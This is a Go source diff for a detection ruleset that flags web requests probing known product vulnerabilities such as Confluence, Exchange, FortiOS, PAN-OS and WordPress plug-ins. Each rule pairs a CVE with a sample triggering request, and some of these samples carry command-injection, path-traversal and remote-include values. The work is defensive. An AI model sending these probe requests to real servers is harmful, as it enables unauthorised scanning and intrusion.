@@ -1,29 +1,46 @@
 package triage
 
+import (
+	"slices"
+	"strings"
+)
+
 // A hole is a known hole of a product that is recognised by the target of the request that looks for
-// it or uses it.
+// it or uses it. Each has a request that fires the rule; miss is one that must not: where the product's owner
+// sends something like it every day, that.
+//
+// The choice: holes of products that stand on the web, found by the path or the query alone, that are in
+// CISA's list of holes known to be exploited (https://www.cisa.gov/known-exploited-vulnerabilities-catalog), have
+// a module in Metasploit or a template in projectdiscovery/nuclei-templates, and scans in many logs. Those that
+// show only in a header or body (Struts CVE-2017-5638, React CVE-2025-55182) are not here.
 type hole struct {
 	id      string
 	level   Level
 	product string
 	cve     string // or where the hole is described, if it has no number
-	word    string // in the decoded target, lower case
+	word    string // in the decoded target, lower case; "|" between several of which one must be there
 	pattern string // over the decoded target, if the word does not suffice
 	hit     string // a request that fires the rule
+	miss    string // a request that must not, or empty
+
+	except string // pattern over the decoded target of what is no finding
 }
 
 // holeRules makes a rule of each hole.
 func holeRules() []Rule {
 	var out []Rule
-	for _, h := range holes {
+	for _, h := range slices.Concat(holesPHP, holesWordPress, holesJava, holesMicrosoft, holesGateways, holesDevices, holesServices) {
 		r := Rule{
 			ID: "hole-" + h.id, Class: Probe, Level: h.level, Field: InTarget,
-			Words: []string{h.word}, Pattern: h.pattern, Product: h.product,
+			Words: strings.Split(h.word, "|"), Pattern: h.pattern, Except: h.except, Product: h.product,
 			Why: "looks for a known hole of " + h.product,
 			Hit: []string{h.hit}, Miss: []string{"GET /", "GET /index.html?a=b"},
 			Source: h.cve,
 		}
-		if len(h.cve) > 4 && h.cve[:4] == "CVE-" {
+		if h.miss != "" {
+			r.Miss = append(r.Miss, h.miss)
+		}
+		if strings.HasPrefix(h.cve, "CVE-") {
 			r.CVE = h.cve
 			r.Source = "https://nvd.nist.gov/vuln/detail/" + h.cve
 			r.Why += " (" + h.cve + ")"
@@ -31,245 +48,4 @@ func holeRules() []Rule {
 		out = append(out, r)
 	}
 	return out
-}
-
-// holes are the products' holes that scanners and intruders try most; medium where the target has no
-// other use, low where owners may use it too.
-var holes = []hole{
-	// PHP applications and frameworks
-	{"phpunit", Medium, "PHPUnit", "CVE-2017-9841", "eval-stdin.php", "", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
-	{"thinkphp-invoke", Medium, "ThinkPHP", "CVE-2018-20062", "invokefunction", "", "GET /index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=x"},
-	{"thinkphp-think", Medium, "ThinkPHP", "CVE-2019-9082", `\think`, `\\think(?:\\|_)?(?:app|container|request|template|view|lang|process)`, `GET /index.php?s=index/\think\template\driver\file/write`},
-	{"thinkphp-construct", Medium, "ThinkPHP", "CVE-2018-20062", "s=captcha", "", "POST /index.php?s=captcha"},
-	{"thinkphp-lang", Medium, "ThinkPHP", "CVE-2022-47945", "pearcmd", "", "GET /index.php?lang=../../pearcmd&+config-create+/x"},
-	{"laravel-ignition", Medium, "Laravel Ignition", "CVE-2021-3129", "_ignition/", "", "POST /_ignition/execute-solution"},
-	{"laravel-telescope", Low, "Laravel Telescope", "https://laravel.com/docs/telescope", "/telescope/requests", "", "GET /telescope/requests"},
-	{"php-cgi-args", Medium, "PHP CGI", "CVE-2012-1823", "allow_url_include", "", "POST /cgi-bin/php?-d+allow_url_include=on+-d+auto_prepend_file=php://input"},
-	{"php-cgi-args2", Medium, "PHP CGI on Windows", "CVE-2024-4577", "auto_prepend_file", "", "POST /php-cgi/php-cgi.exe?%ADd+auto_prepend_file=x"},
-	{"php-cgi-path", Medium, "PHP CGI", "CVE-2024-4577", "/php-cgi", `/php-cgi(?:\.exe|/|$)`, "POST /php-cgi/php-cgi.exe"},
-	{"php-fpm-status", Low, "PHP-FPM", "CVE-2019-11043", "/fpm-status", "", "GET /fpm-status"},
-	{"drupalgeddon2", Medium, "Drupal", "CVE-2018-7600", "element_parents", "", "POST /user/register?element_parents=account/mail/%23value&ajax_form=1"},
-	{"drupal-name-array", Medium, "Drupal", "CVE-2014-3704", "name[0;", "", "POST /?q=node&destination=node&name[0;x]=1"},
-	{"joomla-content", Medium, "Joomla", "CVE-2015-8562", "com_contenthistory", "", "GET /index.php?option=com_contenthistory&view=history"},
-	{"joomla-fields", Medium, "Joomla", "CVE-2017-8917", "com_fields", `com_fields.*list\[`, "GET /index.php?option=com_fields&view=fields&list[fullordering]=x"},
-	{"joomla-api", Medium, "Joomla", "CVE-2023-23752", "/api/index.php/v1/config", "", "GET /api/index.php/v1/config/application?public=true"},
-	{"joomla-jce", Low, "Joomla JCE", "https://www.exploit-db.com/exploits/17734", "com_jce", "", "POST /index.php?option=com_jce&task=plugin"},
-	{"vbulletin-widget", Medium, "vBulletin", "CVE-2019-16759", "widget_php", "", "POST /ajax/render/widget_php"},
-	{"vbulletin-tabbed", Medium, "vBulletin", "CVE-2020-17496", "widget_tabbedcontainer", "", "POST /ajax/render/widget_tabbedcontainer_tab_panel"},
-	{"vbulletin-decode", Medium, "vBulletin", "CVE-2015-7808", "decodearguments", "", "GET /ajax/api/hook/decodeArguments?arguments=x"},
-	{"timthumb", Low, "TimThumb", "CVE-2011-4106", "timthumb.php", `timthumb\.php\?.*src=http`, "GET /wp-content/themes/x/timthumb.php?src=http://h.example/a.php"},
-	{"wp-filemanager", Medium, "WordPress File Manager", "CVE-2020-25213", "connector.minimal.php", "", "POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"},
-	{"wp-revslider", Medium, "WordPress Slider Revolution", "CVE-2014-9734", "revslider_show_image", "", "GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"},
-	{"wp-duplicator", Medium, "WordPress Duplicator", "CVE-2020-11738", "duplicator_download", "", "GET /wp-admin/admin-ajax.php?action=duplicator_download&file=x"},
-	{"wp-users", Low, "WordPress", "CVE-2017-5487", "wp-json/wp/v2/users", "", "GET /wp-json/wp/v2/users"},
-	{"wp-users-route", Low, "WordPress", "CVE-2017-5487", "rest_route=/wp/v2/users", "", "GET /?rest_route=/wp/v2/users"},
-	{"wp-author", Low, "WordPress", "https://wordpress.org/documentation/article/author-enumeration/", "?author=", `^/(?:index\.php)?\?author=\d+$`, "GET /?author=1"},
-	{"wp-config-file", Medium, "WordPress", "https://developer.wordpress.org/advanced-administration/wordpress/wp-config/", "wp-config", `wp-config(?:[.\-_ ~]|%|$).{0,12}(?:php.|bak|txt|old|save|swp|orig|zip|~|copy|inc|html|backup|\d|dist|tar|gz|tmp|original|$)`, "GET /wp-config.php.bak"},
-	{"wp-setup", Low, "WordPress", "https://developer.wordpress.org/advanced-administration/before-install/howto-install/", "wp-admin/setup-config.php", "", "GET /wp-admin/setup-config.php"},
-	{"wp-install", Low, "WordPress", "https://developer.wordpress.org/advanced-administration/before-install/howto-install/", "wp-admin/install.php", "", "GET /wp-admin/install.php"},
-	{"wp-readme", Low, "WordPress plug-ins", "https://wpscan.com/", "/readme.", `wp-content/(?:plugins|themes)/[^/?]+/readme\.(?:txt|md)`, "GET /wp-content/plugins/x/readme.txt"},
-	{"wlwmanifest", Low, "WordPress", "https://www.rapid7.com/db/modules/auxiliary/scanner/http/wordpress_scanner/", "wlwmanifest.xml", "", "GET /blog/wp-includes/wlwmanifest.xml"},
-	{"magento-shoplift", Medium, "Magento", "CVE-2015-1397", "cms_wysiwyg/directive", "", "POST /index.php/admin/Cms_Wysiwyg/directive/index/"},
-	{"magento-downloader", Low, "Magento", "https://www.magereport.com/", "/downloader/", `^/(?:magento/)?downloader/(?:index\.php)?(?:\?|$)`, "GET /downloader/"},
-	{"prestashop-modules", Medium, "PrestaShop modules", "https://www.exploit-db.com/exploits/39911", "simpleslideshow/uploadimage", "", "POST /modules/simpleslideshow/uploadimage.php"},
-	{"elfinder", Low, "elFinder", "CVE-2021-32682", "/elfinder", `/elfinder/|/elfinder\.html`, "GET /elfinder/php/connector.minimal.php"},
-	{"fckeditor", Low, "FCKeditor", "CVE-2009-2265", "fckeditor", "", "GET /admin/FCKeditor/editor/fckeditor.html"},
-	{"kcfinder", Low, "KCFinder", "CVE-2019-14315", "kcfinder", "", "GET /kcfinder/upload.php"},
-	{"jquery-upload", Low, "jQuery File Upload", "CVE-2018-9206", "server/php/index.php", "", "GET /jquery-file-upload/server/php/index.php"},
-	{"uploadify", Low, "Uploadify", "https://www.exploit-db.com/exploits/23638", "uploadify.php", "", "POST /uploadify/uploadify.php"},
-	{"phpmyadmin-setup", Low, "phpMyAdmin", "CVE-2009-1151", "scripts/setup.php", "", "GET /phpMyAdmin/scripts/setup.php"},
-	{"phpmyadmin-target", Medium, "phpMyAdmin", "CVE-2018-12613", "target=db_sql.php", "", "GET /phpmyadmin/index.php?target=db_sql.php%253f/../x"},
-	{"glpi-htmlawed", Medium, "GLPI htmLawed", "CVE-2022-35914", "htmlawedtest.php", "", "GET /vendor/htmlawed/htmlawed/htmLawedTest.php"},
-	{"cacti-agent", Medium, "Cacti", "CVE-2022-46169", "remote_agent.php", "", "GET /remote_agent.php?action=polldata"},
-	{"zoneminder", Medium, "ZoneMinder", "CVE-2022-39290", "/zm/index.php", `/zm/index\.php\?.*(?:request=log|view=|action=)`, "GET /zm/index.php?view=request&request=log"},
-	{"owncloud-graphapi", Medium, "ownCloud", "CVE-2023-49103", "getphpinfo.php", "", "GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php"},
-	{"nagiosxi", Medium, "Nagios XI", "CVE-2018-15708", "magpie_debug.php", "", "GET /nagiosxi/includes/dashlets/rss_dashlet/magpierss/scripts/magpie_debug.php"},
-	{"centreon-cwp", Medium, "Control Web Panel", "CVE-2022-44877", "login/index.php?login=", `login=.*(?:\$|\x60)`, "POST /login/index.php?login=$(id)"},
-	{"roundcube-installer", Low, "Roundcube", "CVE-2020-12641", "/roundcube/installer", "", "GET /roundcube/installer/"},
-	{"awstats", Medium, "AWStats", "CVE-2005-0116", "awstats.pl", `awstats\.pl.*(?:configdir|\|)`, "GET /cgi-bin/awstats.pl?configdir=|id|"},
-	{"bbpress-phpbb", Low, "phpBB", "CVE-2004-1315", "viewtopic.php", `highlight=.*(?:%27|').*(?:system|passthru|chr)`, "GET /viewtopic.php?t=1&highlight=%2527.system(id).%2527"},
-
-	// Java servers and applications
-	{"struts-action", Medium, "Apache Struts", "CVE-2013-2251", "redirect:", `[?&](?:redirect|redirectaction|action):(?:\$|%|#)`, "GET /a.action?redirect:$%7B1%7D"},
-	{"struts-debug", Medium, "Apache Struts", "CVE-2012-0394", "debug=command", "", "GET /a.action?debug=command&expression=1"},
-	{"struts-dynamic", Medium, "Apache Struts", "CVE-2016-3081", "method:", `[?&]method:#`, "GET /a.action?method:%23_memberAccess"},
-	{"spring4shell", Medium, "Spring Framework", "CVE-2022-22965", "class.module.classloader", "", "GET /?class.module.classLoader.resources=x"},
-	{"spring-function", Medium, "Spring Cloud Function", "CVE-2022-22963", "/functionrouter", "", "POST /functionRouter"},
-	{"spring-gateway", Medium, "Spring Cloud Gateway", "CVE-2022-22947", "actuator/gateway/", "", "POST /actuator/gateway/routes/x"},
-	{"spring-actuator", Low, "Spring Boot Actuator", "https://docs.spring.io/spring-boot/reference/actuator/endpoints.html", "/actuator", `/actuator(?:/(?:env|heapdump|mappings|beans|trace|httptrace|configprops|threaddump|dump|loggers|jolokia|shutdown|logfile|metrics|restart|refresh|info|health)?)?(?:[/?;.]|$)`, "GET /actuator/env"},
-	{"spring-old-actuator", Low, "Spring Boot Actuator", "https://docs.spring.io/spring-boot/docs/1.5.x/reference/html/production-ready-endpoints.html", "/heapdump", "", "GET /heapdump"},
-	{"jolokia", Low, "Jolokia", "CVE-2018-1000130", "/jolokia", `/jolokia(?:/|\?|$)`, "GET /jolokia/list"},
-	{"confluence-ognl", Medium, "Confluence", "CVE-2022-26134", "/${", `^/\$\{`, "GET /%24%7B%28x%29%7D/"},
-	{"confluence-setup", Medium, "Confluence", "CVE-2023-22515", "bootstrapstatusprovider", "", "GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"},
-	{"confluence-admin", Medium, "Confluence", "CVE-2023-22515", "/setup/setupadministrator", "", "POST /setup/setupadministrator.action"},
-	{"confluence-restore", Medium, "Confluence", "CVE-2023-22518", "setup-restore", "", "POST /json/setup-restore.action"},
-	{"confluence-widget", Medium, "Confluence", "CVE-2019-3396", "tinymce/1/macro/preview", "", "POST /rest/tinymce/1/macro/preview"},
-	{"confluence-text-inline", Medium, "Confluence", "CVE-2023-22527", "text-inline.vm", "", "POST /template/aui/text-inline.vm"},
-	{"confluence-createpage", Medium, "Confluence", "CVE-2021-26084", "createpage-entervariables", "", "POST /pages/createpage-entervariables.action"},
-	{"jira-limited-read", Medium, "Jira", "CVE-2021-26086", "/_/;/", "", "GET /s/x/_/;/WEB-INF/web.xml"},
-	{"jira-contact", Medium, "Jira", "CVE-2019-11581", "contactadministrators", "", "GET /secure/ContactAdministrators!default.jspa"},
-	{"jira-makerequest", Medium, "Jira", "CVE-2019-8451", "gadgets/makerequest", "", "GET /plugins/servlet/gadgets/makeRequest?url=x"},
-	{"jira-user-picker", Low, "Jira", "CVE-2020-14181", "viewuserhover.jspa", "", "GET /secure/ViewUserHover.jspa?username=x"},
-	{"jenkins-script", Low, "Jenkins", "CVE-2018-1000861", "/descriptorbyname/", "", "GET /securityRealm/user/admin/descriptorByName/x"},
-	{"jenkins-cli", Medium, "Jenkins", "CVE-2024-23897", "/cli?remoting", "", "POST /cli?remoting=false"},
-	{"jenkins-console", Low, "Jenkins", "https://www.jenkins.io/doc/book/managing/script-console/", "/jenkins/script", "", "GET /jenkins/script"},
-	{"solr-admin", Low, "Apache Solr", "CVE-2019-17558", "/solr/", `/solr/(?:admin|#|[^/?]+/(?:config|select|dataimport|debug|update))`, "GET /solr/admin/info/system?wt=json"},
-	{"tomcat-manager", Low, "Apache Tomcat", "CVE-2009-3548", "/manager/", `^/(?:host-)?manager/(?:html|text|status|jmxproxy)`, "GET /manager/html"},
-	{"tomcat-examples", Low, "Apache Tomcat", "https://tomcat.apache.org/tomcat-9.0-doc/security-howto.html", "/examples/", `/examples/(?:jsp|servlets)/`, "GET /examples/servlets/index.html"},
-	{"jboss-invoker", Medium, "JBoss", "CVE-2017-12149", "invoker/", `/invoker/(?:readonly|jmxinvokerservlet|ejbinvokerservlet)`, "POST /invoker/readonly"},
-	{"jboss-console", Low, "JBoss", "CVE-2010-0738", "/jmx-console", "", "HEAD /jmx-console/HtmlAdaptor"},
-	{"jboss-web-console", Low, "JBoss", "CVE-2010-1428", "/web-console/", "", "GET /web-console/"},
-	{"weblogic-async", Medium, "WebLogic", "CVE-2019-2725", "/_async/", "", "POST /_async/AsyncResponseService"},
-	{"weblogic-wls", Medium, "WebLogic", "CVE-2017-10271", "/wls-wsat/", "", "POST /wls-wsat/CoordinatorPortType"},
-	{"weblogic-console", Medium, "WebLogic", "CVE-2020-14882", "console.portal", "", "GET /console/css/%252e%252e%252fconsole.portal"},
-	{"weblogic-uddi", Low, "WebLogic", "CVE-2014-4210", "/uddiexplorer", "", "GET /uddiexplorer/SearchPublicRegistries.jsp"},
-	{"coldfusion-admin", Low, "ColdFusion", "CVE-2010-2861", "/cfide/", "", "GET /CFIDE/administrator/enter.cfm"},
-	{"coldfusion-cfc", Medium, "ColdFusion", "CVE-2023-26360", "_cfclient", "", "POST /cf_scripts/scripts/ajax/ckeditor/x.cfc?method=x&_cfclient=true"},
-	{"shiro-bypass", Low, "Apache Shiro", "CVE-2020-1957", "/xxx/..;/", "", "GET /xxx/..;/admin/"},
-	{"zimbra-mbox", Medium, "Zimbra", "CVE-2022-37042", "mboximport", "", "POST /service/extension/backup/mboximport?account-name=admin"},
-	{"zimbra-autodiscover", Low, "Zimbra", "CVE-2019-9670", "/zimbra/", `/zimbra/(?:res|public|h|mail)/`, "GET /zimbra/res/I18nMsg.js"},
-	{"manageengine-rest2", Medium, "ManageEngine", "CVE-2021-40539", "/./restapi", "", "POST /./RestAPI/Connection"},
-	{"manageengine-chart", Medium, "ManageEngine Desktop Central", "CVE-2020-10189", "getchartimage", "", "GET /cewolf/?getChartImage&img=x"},
-	{"vmware-view-agent", Medium, "VMware vCenter", "CVE-2021-22005", "analytics/telemetry", "", "POST /analytics/telemetry/ph/api/hyper/send"},
-	{"vmware-upload", Medium, "VMware vCenter", "CVE-2021-21972", "uploadova", "", "POST /ui/vropspluginui/rest/services/uploadova"},
-	{"vmware-eam", Medium, "VMware vCenter", "https://www.vmware.com/security/advisories/VMSA-2021-0027.html", "/eam/vib", "", "GET /eam/vib?id=/etc/x"},
-	{"vmware-ws1", Medium, "VMware Workspace ONE", "CVE-2022-22954", "deviceudid", "", "GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=$%7B1%7D"},
-	{"vmware-nsx", Medium, "VMware NSX", "CVE-2021-39144", "/api/2.0/services/usermgmt", "", "PUT /api/2.0/services/usermgmt/password/1"},
-	{"openfire", Medium, "Openfire", "CVE-2023-32315", "/setup/setup-s/", "", "GET /setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"},
-	{"activemq", Low, "Apache ActiveMQ", "CVE-2016-3088", "/fileserver/", `^/fileserver/[^?]*\.(?:jsp|txt)`, "PUT /fileserver/a.jsp"},
-	{"ofbiz", Medium, "Apache OFBiz", "CVE-2023-51467", "/webtools/control/", "", "POST /webtools/control/ProgramExport"},
-	{"nexus", Medium, "Nexus Repository", "CVE-2019-7238", "/service/extdirect", "", "POST /service/extdirect"},
-	{"druid", Low, "Apache Druid and Alibaba Druid", "CVE-2021-25646", "/druid/", `/druid/(?:index\.html|indexer|weburi|login|websession)`, "GET /druid/index.html"},
-	{"nacos", Low, "Nacos", "CVE-2021-29441", "/nacos/", "", "GET /nacos/v1/auth/users?pageNo=1"},
-	{"xxl-job", Low, "XXL-JOB", "https://www.exploit-db.com/exploits/49899", "/xxl-job-admin", "", "GET /xxl-job-admin/toLogin"},
-	{"metabase", Low, "Metabase", "CVE-2023-38646", "/api/session/properties", "", "GET /api/session/properties"},
-	{"geoserver", Low, "GeoServer", "CVE-2024-36401", "/geoserver/", `/geoserver/(?:web|wfs|ows|rest|index\.html)`, "GET /geoserver/web/"},
-	{"sap-portal", Low, "SAP NetWeaver", "CVE-2020-6287", "/ctcwebservice", "", "GET /CTCWebService/CTCWebServiceBean?wsdl"},
-	{"sap-irj", Low, "SAP NetWeaver", "CVE-2025-31324", "/irj/", `/irj/(?:portal|go|servlet|root)`, "GET /irj/portal"},
-	{"sap-uploader", Medium, "SAP NetWeaver Visual Composer", "CVE-2025-31324", "metadatauploader", "", "POST /developmentserver/metadatauploader"},
-	{"adobe-aem", Low, "Adobe Experience Manager", "https://github.com/0ang3el/aem-hacker", "/bin/querybuilder", "", "GET /bin/querybuilder.json"},
-	{"adobe-crx", Low, "Adobe Experience Manager", "https://github.com/0ang3el/aem-hacker", "/crx/", `/crx/(?:de|packmgr|explorer|repository)`, "GET /crx/de/index.jsp"},
-	{"xdebug", Low, "Xdebug", "https://xdebug.org/docs/step_debug", "xdebug_session_start", "", "GET /?XDEBUG_SESSION_START=phpstorm"},
-	{"wp-listing", Low, "WordPress", "https://wpscan.com/", "/wp-content/", `/wp-content/(?:plugins|themes|uploads)/?$`, "GET /wp-content/plugins/"},
-	{"kylin", Low, "Apache Kylin", "CVE-2020-13937", "/kylin/api/admin/config", "", "GET /kylin/api/admin/config"},
-
-	// Microsoft
-	{"proxylogon-ecp", Medium, "Microsoft Exchange", "CVE-2021-26855", "/ecp/", `/ecp/(?:y|[a-z0-9]{1,8}|default\.flt|program|main|x)\.(?:js|css|flt|png|gif)(?:\?|$)`, "POST /ecp/y.js"},
-	{"proxyshell", Medium, "Microsoft Exchange", "CVE-2021-34473", "autodiscover.json", `autodiscover\.json.*(?:@|mapi|powershell|ews|\?)`, "GET /autodiscover/autodiscover.json?@h.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@h.example"},
-	{"exchange-auth", Low, "Microsoft Exchange", "https://learn.microsoft.com/exchange/architecture/client-access/autodiscover", "/autodiscover/", `^/autodiscover/autodiscover\.(?:xml|json)`, "GET /autodiscover/autodiscover.xml"},
-	{"exchange-owa-themes", Medium, "Microsoft Exchange", "CVE-2021-27065", "/owa/auth/", `/owa/auth/(?:current/)?(?:themes/|scripts/)?[^/?]*\.(?:aspx|ashx)`, "GET /owa/auth/x.aspx"},
-	{"exchange-owa", Low, "Microsoft Exchange", "https://learn.microsoft.com/exchange/clients/outlook-on-the-web/outlook-on-the-web", "/owa/auth/logon.aspx", "", "GET /owa/auth/logon.aspx?url=x"},
-	{"exchange-ecp-export", Low, "Microsoft Exchange", "CVE-2021-26855", "/ecp/current/exporttool", "", "GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"},
-	{"proxylogon-ddi", Medium, "Microsoft Exchange", "CVE-2021-27065", "ddiservice.svc", "", "POST /ecp/DDI/DDIService.svc/SetObject"},
-	{"proxylogon-owa-js", Medium, "Microsoft Exchange", "CVE-2021-26855", "/owa/auth/", `/owa/auth/\w{1,4}\.js(?:\?|$)`, "GET /owa/auth/x.js"},
-	{"telerik-upload", Medium, "Telerik UI", "CVE-2019-18935", "telerik.web.ui.webresource.axd", `type=rau`, "POST /Telerik.Web.UI.WebResource.axd?type=rau"},
-	{"telerik-dialog", Medium, "Telerik UI", "CVE-2017-9248", "telerik.web.ui.dialoghandler", "", "GET /Telerik.Web.UI.DialogHandler.aspx?dp=1"},
-	{"sharepoint-picker", Low, "SharePoint", "CVE-2019-0604", "/_layouts/15/picker.aspx", "", "GET /_layouts/15/Picker.aspx?PickerDialogType=x"},
-	{"sharepoint-toolpane", Medium, "SharePoint", "CVE-2025-53770", "toolpane.aspx", "", "POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit"},
-	{"sharepoint-layouts", Low, "SharePoint", "https://learn.microsoft.com/sharepoint/", "/_layouts/", `/_layouts/(?:\d+/)?(?:viewlsts|start|authenticate|userdisp|spinstall\w*)\.aspx`, "GET /_layouts/15/start.aspx"},
-	{"frontpage", Low, "FrontPage extensions", "CVE-2001-0341", "/_vti_", `/_vti_(?:bin|pvt|inf|cnf|log|txt|rpc)`, "POST /_vti_bin/shtml.exe"},
-	{"iis-trace", Low, "ASP.NET", "https://learn.microsoft.com/previous-versions/aspnet/bb386420(v=vs.100)", "/trace.axd", "", "GET /trace.axd"},
-	{"elmah", Low, "ELMAH", "https://elmah.github.io/", "/elmah.axd", "", "GET /elmah.axd"},
-	{"iis-webdav", Low, "IIS", "CVE-2017-7269", "/_vti_inf.html", "", "GET /_vti_inf.html"},
-	{"iis-ida", Medium, "IIS", "CVE-2001-0500", "default.ida", "", "GET /default.ida?XXXX"},
-	{"moveit", Medium, "MOVEit Transfer", "CVE-2023-34362", "guestaccess.aspx", "", "POST /guestaccess.aspx"},
-	{"screenconnect", Medium, "ScreenConnect", "CVE-2024-1709", "setupwizard.aspx/", "", "GET /SetupWizard.aspx/x"},
-	{"wsus-client", Medium, "WSUS", "CVE-2025-59287", "clientwebservice/client.asmx", "", "POST /ClientWebService/client.asmx"},
-	{"crush-ftp", Medium, "CrushFTP", "CVE-2024-4040", "/webinterface/function", "", "POST /WebInterface/function/?command=zip"},
-	{"rdweb", Low, "RD Web Access", "https://learn.microsoft.com/windows-server/remote/remote-desktop-services/", "/rdweb/", "", "GET /RDWeb/Pages/en-US/login.aspx"},
-
-	// Network equipment and gateways
-	{"f5-tmui", Medium, "F5 BIG-IP", "CVE-2020-5902", "/tmui/", "", "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp"},
-	{"f5-icontrol", Medium, "F5 BIG-IP", "CVE-2022-1388", "/mgmt/tm/util/bash", "", "POST /mgmt/tm/util/bash"},
-	{"f5-mgmt", Low, "F5 BIG-IP", "CVE-2021-22986", "/mgmt/shared/authn/login", "", "GET /mgmt/shared/authn/login"},
-	{"citrix-vpns", Medium, "Citrix ADC", "CVE-2019-19781", "/vpns/", "", "GET /vpn/../vpns/cfg/smb.conf"},
-	{"citrix-gwtest", Medium, "Citrix ADC", "CVE-2023-3519", "/gwtest/formssso", "", "GET /gwtest/formssso?event=start"},
-	{"citrix-oauth", Low, "Citrix ADC", "CVE-2023-4966", "/oauth/idp/.well-known", "", "GET /oauth/idp/.well-known/openid-configuration"},
-	{"citrix-vpn", Low, "Citrix ADC", "CVE-2019-19781", "/vpn/index.html", "", "GET /vpn/index.html"},
-	{"citrix-nitro", Medium, "Citrix ADC", "CVE-2020-8193", "report_xml", `/pcidss/report|report_xml`, "POST /pcidss/report?type=allprofiles&set=1&report_xml=1"},
-	{"pulse-read", Medium, "Pulse Connect Secure", "CVE-2019-11510", "/dana/html5acc/", "", "GET /dana-na/../dana/html5acc/guacamole/../../etc/x"},
-	{"pulse-login", Low, "Pulse and Ivanti Connect Secure", "CVE-2021-22893", "/dana-na/", "", "GET /dana-na/auth/url_default/welcome.cgi"},
-	{"ivanti-totp", Medium, "Ivanti Connect Secure", "CVE-2023-46805", "/api/v1/totp/", "", "GET /api/v1/totp/user-backup-code/../../license/keys-status/x"},
-	{"ivanti-epmm", Medium, "Ivanti EPMM", "CVE-2023-35078", "/mifs/", `/mifs/(?:aad|asfv3|rs|c/|user|\.;)`, "GET /mifs/aad/api/v2/ping"},
-	{"fortios-read", Medium, "FortiOS", "CVE-2018-13379", "/remote/fgt_lang", "", "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
-	{"fortios-login", Low, "FortiOS", "CVE-2018-13379", "/remote/login", `^/remote/(?:login|logincheck|info|error)`, "GET /remote/login?lang=en"},
-	{"fortios-api", Medium, "FortiOS", "CVE-2022-40684", "/api/v2/cmdb/system/admin", "", "PUT /api/v2/cmdb/system/admin/admin"},
-	{"fortinac", Medium, "FortiNAC", "CVE-2022-39952", "keyupload.jsp", "", "POST /configWizard/keyUpload.jsp"},
-	{"fortiweb", Medium, "FortiWeb", "CVE-2025-64446", "fwbcgi", "", "POST /api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi"},
-	{"panos-mgmt", Medium, "PAN-OS", "CVE-2024-0012", "/php/ztp_gate.php", "", "GET /php/ztp_gate.php/.js.map"},
-	{"panos-debug", Medium, "PAN-OS", "CVE-2025-0108", "/unauth/", `/unauth/.*(?:%2e|\.\.|php/)`, "GET /unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css"},
-	{"panos-createuser", Medium, "PAN-OS", "CVE-2024-9474", "createremoteappwebsession", "", "POST /php/utils/createRemoteAppwebSession.php/x.js.map"},
-	{"globalprotect", Low, "GlobalProtect", "CVE-2024-3400", "/global-protect/", "", "GET /global-protect/portal/css/login.css"},
-	{"globalprotect-esp", Low, "GlobalProtect", "CVE-2024-3400", "/ssl-vpn/", "", "POST /ssl-vpn/hipreport.esp"},
-	{"cisco-asa", Low, "Cisco ASA", "CVE-2020-3452", "/+cscot+/", "", "GET /+CSCOT+/translation-table?type=mst"},
-	{"cisco-asa-login", Low, "Cisco ASA", "CVE-2020-3452", "/+cscoe+/", "", "GET /+CSCOE+/logon.html"},
-	{"cisco-asa-cscou", Low, "Cisco ASA", "CVE-2018-0296", "/+cscou+/", "", "GET /+CSCOU+/../+CSCOE+/files/file_list.json"},
-	{"cisco-iosxe", Medium, "Cisco IOS XE", "CVE-2023-20198", "/webui/", `/webui/(?:logoutconfirm|index|rest|login)`, "POST /webui/logoutconfirm.html?logon_hash=1"},
-	{"cisco-wsma", Medium, "Cisco IOS XE", "CVE-2023-20198", "webui_wsma", "", "POST /%2577ebui_wsma_https"},
-	{"sonicwall-sra", Medium, "SonicWall SMA", "CVE-2021-20016", "/cgi-bin/supportlogin", "", "GET /cgi-bin/supportLogin"},
-	{"sonicwall-jarrewrite", Medium, "SonicWall VPN", "https://darrenmartyn.ie/2021/01/24/visualdoor-sonicwall-ssl-vpn-exploit/", "jarrewrite.sh", "", "GET /cgi-bin/jarrewrite.sh"},
-	{"sophos-webconsole", Low, "Sophos Firewall", "CVE-2022-1040", "/webconsole/controller", "", "POST /webconsole/Controller?mode=700"},
-	{"zyxel-cgi", Medium, "Zyxel", "CVE-2022-30525", "/ztp/cgi-bin/handler", "", "POST /ztp/cgi-bin/handler"},
-	{"zyxel-weblogin", Medium, "Zyxel NAS", "CVE-2020-9054", "weblogin.cgi", "", "GET /cgi-bin/weblogin.cgi?username=admin';ls"},
-	{"gpon", Medium, "GPON routers", "CVE-2018-10561", "/gponform/", "", "POST /GponForm/diag_Form?images/"},
-	{"boaform", Medium, "routers with Boa", "CVE-2020-8958", "/boaform/", "", "POST /boaform/admin/formLogin"},
-	{"hnap", Medium, "D-Link and Linksys routers", "CVE-2015-2051", "/hnap1", "", "POST /HNAP1/"},
-	{"netgear-setup", Medium, "Netgear routers", "https://www.exploit-db.com/exploits/25978", "/setup.cgi", `/setup\.cgi\?.*(?:todo=|next_file=)`, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=x"},
-	{"netgear-currentsetting", Low, "Netgear routers", "https://www.exploit-db.com/exploits/40949", "currentsetting.htm", "", "GET /currentsetting.htm"},
-	{"dlink-goform", Low, "D-Link and Tenda routers", "CVE-2020-10987", "/goform/", "", "POST /goform/setUsbUnload"},
-	{"dlink-nas", Medium, "D-Link NAS", "CVE-2024-3273", "nas_sharing.cgi", "", "GET /cgi-bin/nas_sharing.cgi?user=messagebus"},
-	{"dlink-getcfg", Medium, "D-Link routers", "CVE-2019-17621", "getcfg.php", "", "POST /getcfg.php"},
-	{"linksys-tmunblock", Medium, "Linksys routers", "https://isc.sans.edu/diary/17633", "tmunblock.cgi", "", "POST /tmUnblock.cgi"},
